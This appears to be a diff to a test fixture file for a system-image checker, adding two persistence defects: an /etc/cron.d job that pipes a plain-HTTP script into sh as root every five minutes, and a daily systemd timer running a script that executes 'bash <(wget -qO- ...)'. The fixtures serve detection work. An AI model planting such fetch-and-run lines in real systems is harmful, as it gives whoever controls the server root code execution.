@@ -672,6 +672,46 @@ PERSISTENCE_DEFECTS: tuple[Defect, ...] = (
         ROOT_EXEC,
         _owned("/usr/local/libexec/login-audit", NOBODY),
     ),
+    # code fetched from the network and run as root: no file on the image to judge
+    Defect(
+        "cron-curl-pipe-sh",
+        "system",
+        "an /etc/cron.d job pipes a script served over plain HTTP into sh, as root, every 5 min",
+        _file(
+            "/etc/cron.d/telemetry",
+            "*/5 * * * * root curl -fsS http://203.0.113.7/agent.sh | sh >/dev/null 2>&1\n",
+        ),
+        ROOT_EXEC,
+        _exists("/etc/cron.d/telemetry"),
+    ),
+    Defect(
+        "timer-script-process-substitution",
+        "system",
+        "a daily timer runs /usr/local/sbin/refresh-agent (root, 0755), which runs "
+        "bash <(wget -qO- https://…): the code is whatever the server sends that day",
+        _steps(
+            _file(
+                "/usr/local/sbin/refresh-agent",
+                "#!/bin/bash\n# refresh the monitoring agent\n"
+                "bash <(wget -qO- https://agents.example.invalid/refresh)\n",
+                0o755,
+            ),
+            _unit(
+                "refresh-agent.service",
+                "[Unit]\nDescription=refresh agent\n[Service]\nType=oneshot\n"
+                "ExecStart=-/usr/local/sbin/refresh-agent\n",
+                target=None,
+            ),
+            _unit(
+                "refresh-agent.timer",
+                "[Unit]\nDescription=refresh agent daily\n[Timer]\nOnCalendar=daily\n"
+                "[Install]\nWantedBy=timers.target\n",
+                target="timers.target",
+            ),
+        ),
+        ROOT_EXEC,
+        _exists("/usr/local/sbin/refresh-agent"),
+    ),
 )
 
 # -- good variants: sound images both checks must pass -------------------------------------------
